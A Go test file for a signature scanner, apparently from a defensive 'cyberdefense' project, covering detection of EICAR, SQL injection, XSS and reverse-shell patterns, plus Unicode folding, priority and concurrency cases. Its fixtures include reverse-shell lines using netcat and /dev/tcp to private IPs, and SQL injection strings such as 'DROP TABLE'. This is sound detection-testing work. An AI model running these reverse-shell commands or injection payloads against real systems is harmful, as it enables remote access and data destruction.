package detection

import (
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/daisymeal/cyberdefense/internal/domain"
)

const eicar = `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`

func TestDefaultSignatures_Order(t *testing.T) {
	table := DefaultSignatureTable()

	names := make([]domain.ThreatType, 0, table.Len())
	for _, sig := range table.Signatures() {
		names = append(names, sig.Name)
	}

	assert.Equal(t, []domain.ThreatType{
		domain.ThreatTypeTestVirus,
		domain.ThreatTypeEICAR,
		domain.ThreatTypeSQLInjection,
		domain.ThreatTypeXSS,
		domain.ThreatTypeReverseShell,
	}, names)
	assert.True(t, table.PreFiltered())
}

func TestSignatureScanner_Detects(t *testing.T) {
	scanner := NewSignatureScanner(nil)

	tests := []struct {
		name     string
		payload  string
		wantType domain.ThreatType
	}{
		{"test marker", "xx TEST_VIRUS_ACTIVE_BLOCK_THIS_IMMEDIATELY xx", domain.ThreatTypeTestVirus},
		{"eicar", eicar, domain.ThreatTypeEICAR},
		{"eicar embedded", "attachment: " + eicar + " end", domain.ThreatTypeEICAR},
		{"union select", "1 UNION SELECT username FROM users", domain.ThreatTypeSQLInjection},
		{"union select many spaces", "1 union     select 2", domain.ThreatTypeSQLInjection},
		{"union select tab", "1 union\tselect 2", domain.ThreatTypeSQLInjection},
		{"drop table", "; DROP TABLE users", domain.ThreatTypeSQLInjection},
		{"insert into", "InSeRt   InTo t values(1)", domain.ThreatTypeSQLInjection},
		{"or 1=1", "' OR 1=1 --", domain.ThreatTypeSQLInjection},
		{"or 1=1 nbsp", "' or\u00a01=1", domain.ThreatTypeSQLInjection},
		{"script tag", "<SCRIPT>steal()</SCRIPT>", domain.ThreatTypeXSS},
		{"alert call", "javascript:Alert(1)", domain.ThreatTypeXSS},
		{"document cookie", "x=Document.Cookie", domain.ThreatTypeXSS},
		{"bin sh", "exec /BIN/SH", domain.ThreatTypeReverseShell},
		{"netcat", "nc   -e /bin/bash 10.0.0.1 4444", domain.ThreatTypeReverseShell},
		{"bash interactive", "BASH -i >& /dev/tcp/1.2.3.4/80", domain.ThreatTypeReverseShell},
	}

	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			result := scanner.Scan(tc.payload)
			assert.True(t, result.Matched)
			assert.Equal(t, tc.wantType, result.Signature)
		})
	}
}

func TestSignatureScanner_Clean(t *testing.T) {
	scanner := NewSignatureScanner(nil)

	clean := []string{
		"",
		"hello world",
		"GET /index.html HTTP/1.1",
		"union of workers; select a committee",
		"or 2=2",
		"<scrip>",
		"alert (1)",
		"document cookie",
		"/bin/bash",
		"nc-e",
		"bash-i",
		"ordinary 1=1 comparison",
		"x5o!p%@ap[4\\pzx54(p^)7cc)7}$eicar-standard-antivirus-test-file!$h+h*",
		"test_virus_active_block_this_immediately",
		"héllo wörld",
	}

	for _, payload := range clean {
		t.Run(payload, func(t *testing.T) {
			assert.False(t, scanner.Scan(payload).Matched)
		})
	}
}

func TestSignatureScanner_LiteralIsNotRegex(t *testing.T) {
	scanner := NewSignatureScanner(nil)

	// each regex metacharacter in the EICAR string must match itself only
	mangled := strings.Replace(eicar, "[4", "4", 1)
	assert.False(t, scanner.Scan(mangled).Matched)
	mangled = strings.Replace(eicar, "$H+H*", "$HHH", 1)
	assert.False(t, scanner.Scan(mangled).Matched)
}

func TestSignatureScanner_PriorityByTableOrder(t *testing.T) {
	scanner := NewSignatureScanner(nil)

	tests := []struct {
		name     string
		payload  string
		wantType domain.ThreatType
	}{
		{"xss before sqli in text", "<script>alert(1)</script> ' OR 1=1", domain.ThreatTypeSQLInjection},
		{"sqli and shell", "bash -i; DROP TABLE x", domain.ThreatTypeSQLInjection},
		{"xss and shell", "/bin/sh document.cookie", domain.ThreatTypeXSS},
		{"eicar and sqli", "union select " + eicar, domain.ThreatTypeEICAR},
		{"marker beats all", eicar + "TEST_VIRUS_ACTIVE_BLOCK_THIS_IMMEDIATELY", domain.ThreatTypeTestVirus},
	}

	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			assert.Equal(t, tc.wantType, scanner.Scan(tc.payload).Signature)
		})
	}
}

func TestSignatureScanner_UnicodeFoldingBypassesPreFilter(t *testing.T) {
	scanner := NewSignatureScanner(nil)

	// U+017F LATIN SMALL LETTER LONG S folds to 's' in case-insensitive
	// matching; the ASCII pre-filter must not hide it.
	result := scanner.Scan("/bin/ſh")
	assert.True(t, result.Matched)
	assert.Equal(t, domain.ThreatTypeReverseShell, result.Signature)
}

func TestSignatureTable_DuplicateName(t *testing.T) {
	a, err := NewLiteralSignature("DUP", "a")
	require.NoError(t, err)
	b, err := NewLiteralSignature("DUP", "b")
	require.NoError(t, err)

	_, err = NewSignatureTable([]*Signature{a, b})
	assert.ErrorIs(t, err, ErrDuplicateSignature)
}

func TestSignatureTable_NoKeywordsDisablesPreFilter(t *testing.T) {
	sig, err := NewPatternSignature("DIGITS", nil, `\d{6}`)
	require.NoError(t, err)

	table, err := NewSignatureTable(append(DefaultSignatures(), sig))
	require.NoError(t, err)

	assert.False(t, table.PreFiltered())
	assert.Equal(t, domain.ThreatType("DIGITS"), table.Scan("pin 123456").Signature)
}

func TestSignatureScanner_DottedCapitalI(t *testing.T) {
	scanner := NewSignatureScanner(nil)

	tests := []struct {
		payload  string
		wantType domain.ThreatType
	}{
		{"\u0130nsert into users", domain.ThreatTypeSQLInjection},
		{"x un\u0131on select y", domain.ThreatTypeSQLInjection},
		{"<scr\u0130pt>", domain.ThreatTypeXSS},
		{"bash -\u0130", domain.ThreatTypeReverseShell},
	}

	for _, tc := range tests {
		t.Run(tc.payload, func(t *testing.T) {
			result := scanner.Scan(tc.payload)
			require.True(t, result.Matched)
			assert.Equal(t, tc.wantType, result.Signature)
		})
	}

	assert.False(t, scanner.Scan("\u0130nsert nothing").Matched)
}

func TestSignatureTable_KeywordHitsOnlyTheirOwner(t *testing.T) {
	// LOOSE breaks its own keyword contract, so it only fires when "zzz"
	// is present even though its pattern matches earlier in table order.
	loose, err := NewPatternSignature("LOOSE", []string{"zzz"}, `alert`)
	require.NoError(t, err)
	table, err := NewSignatureTable([]*Signature{loose, DefaultSignatures()[3]})
	require.NoError(t, err)
	require.True(t, table.PreFiltered())

	result := table.Scan("alert(1)")
	require.True(t, result.Matched)
	assert.Equal(t, domain.ThreatTypeXSS, result.Signature)

	assert.Equal(t, domain.ThreatType("LOOSE"), table.Scan("zzz alert(1)").Signature)
	assert.False(t, table.Scan("zzz only").Matched)
}

func TestNewSignature_Errors(t *testing.T) {
	_, err := NewLiteralSignature("EMPTY", "")
	assert.ErrorIs(t, err, ErrEmptySignature)

	_, err = NewPatternSignature("NONE", nil)
	assert.ErrorIs(t, err, ErrEmptySignature)

	_, err = NewPatternSignature("BLANK", nil, "ok", "")
	assert.ErrorIs(t, err, ErrEmptySignature)

	_, err = NewPatternSignature("BAD", nil, "(unclosed")
	assert.Error(t, err)
}

func TestSignatureScanner_Swap(t *testing.T) {
	scanner := NewSignatureScanner(nil)
	assert.Equal(t, 5, scanner.SignatureCount())

	custom, err := NewLiteralSignature("CUSTOM_MARKER", "zz-top")
	require.NoError(t, err)
	table, err := NewSignatureTable(append(DefaultSignatures(), custom))
	require.NoError(t, err)

	old := scanner.Swap(table)
	assert.Equal(t, 5, old.Len())
	assert.Equal(t, 6, scanner.SignatureCount())
	assert.Equal(t, domain.ThreatType("CUSTOM_MARKER"), scanner.Scan("zz-top").Signature)

	assert.Same(t, table, scanner.Swap(nil))
	assert.Same(t, table, scanner.Table())
}

func TestSignatureScanner_ConcurrentScanAndSwap(t *testing.T) {
	scanner := NewSignatureScanner(nil)

	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 500; j++ {
				assert.Equal(t, domain.ThreatTypeSQLInjection, scanner.Scan("' or 1=1").Signature)
			}
		}()
	}
	for i := 0; i < 50; i++ {
		scanner.Swap(DefaultSignatureTable())
	}
	wg.Wait()
}

func BenchmarkSignatureScanner_Clean(b *testing.B) {
	scanner := NewSignatureScanner(nil)
	payload := strings.Repeat("GET /products?page=2&sort=price HTTP/1.1 ", 20)

	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		scanner.Scan(payload)
	}
}

func BenchmarkSignatureScanner_Malicious(b *testing.B) {
	scanner := NewSignatureScanner(nil)
	payload := strings.Repeat("a", 500) + " bash -i >& /dev/tcp/10.0.0.1/4444"

	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		scanner.Scan(payload)
	}
}
